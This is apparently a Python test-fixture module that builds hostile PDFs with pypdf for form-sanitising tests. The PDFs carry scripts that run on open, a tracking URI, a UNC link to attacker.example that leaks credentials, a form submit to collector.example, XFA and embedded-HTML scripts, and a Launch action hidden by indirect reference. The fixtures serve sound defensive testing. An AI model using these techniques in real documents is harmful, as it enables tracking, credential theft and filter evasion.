"""Hostile PDFs made with pypdf for the form tests: scripts, actions that open,
send or start something, and embedded files."""

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.pdf_objects import (
    dictionary,
    javascript_action,
    name,
    rect,
    stream,
    with_annotation,
    write,
)


def pdf_with_open_action_script():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = javascript_action()
    return write(writer)


def pdf_with_named_script():
    """JavaScript in the document's name tree, run when it opens."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), javascript_action()])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )
    return write(writer)


def pdf_with_page_action():
    """An additional action (/AA) on a page: it runs when the page opens."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): javascript_action()})
    return write(writer)


def pdf_with_open_action_link():
    """An address visited when the file opens: the sender learns who opened it."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject("/OpenAction")] = dictionary(
        S=name("/URI"), URI=TextStringObject("https://tracker.example/opened?form=1")
    )
    return write(writer)


def pdf_with_remote_link():
    """A link opening a file on a network share (GoToR to a UNC path): following it
    can send the reader's Windows credentials to that server."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    action = dictionary(
        S=name("/GoToR"),
        F=TextStringObject(r"\\attacker.example\share\form.pdf"),
        D=ArrayObject([NumberObject(0), name("/Fit")]),
    )
    with_annotation(
        writer,
        page,
        dictionary(
            Type=name("/Annot"), Subtype=name("/Link"), Rect=rect(72, 700, 300, 715), A=action
        ),
    )
    return write(writer)


def pdf_with_submit_button():
    """A push button that sends the filled-in form to another server."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    action = dictionary(
        S=name("/SubmitForm"),
        F=dictionary(FS=name("/URL"), F=TextStringObject("https://collector.example/form")),
    )
    button = with_annotation(
        writer,
        page,
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/Widget"),
            FT=name("/Btn"),
            Ff=NumberObject(1 << 16),
            T=TextStringObject("send"),
            Rect=rect(72, 100, 172, 130),
            A=action,
        ),
    )
    writer._root_object[NameObject("/AcroForm")] = dictionary(Fields=ArrayObject([button]))
    return write(writer)


XFA_SCRIPT = b"""<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform name="form1"><event activity="initialize">
<script contentType="application/x-javascript">app.alert("xfa");</script>
</event></subform></template></xdp:xdp>"""


def pdf_with_xfa_script():
    """An AcroForm whose XFA stream holds a script, with no /JS key anywhere."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    xfa = writer._add_object(stream(XFA_SCRIPT))
    writer._root_object[NameObject("/AcroForm")] = dictionary(Fields=ArrayObject(), XFA=xfa)
    return write(writer)


def pdf_with_embedded_html():
    """An HTML page attached to the document through its name tree."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    html = writer._add_object(
        stream(b"<html><script>alert(1)</script></html>", Type=name("/EmbeddedFile"))
    )
    filespec = dictionary(
        Type=name("/Filespec"), F=TextStringObject("guide.html"), EF=dictionary(F=html)
    )
    writer._root_object[NameObject("/Names")] = dictionary(
        EmbeddedFiles=dictionary(
            Names=ArrayObject([TextStringObject("guide.html"), writer._add_object(filespec)])
        )
    )
    return write(writer)


def pdf_with_launch_by_reference():
    """A link starting a program, its action type stored as a separate object so that
    a look at the action dictionary's own values does not see the name."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    action = dictionary(
        S=writer._add_object(name("/Launch")), F=TextStringObject("C:\\Windows\\calc.exe")
    )
    with_annotation(
        writer,
        page,
        dictionary(
            Type=name("/Annot"),
            Subtype=name("/Link"),
            Rect=rect(72, 700, 300, 715),
            A=writer._add_object(action),
        ),
    )
    return write(writer)
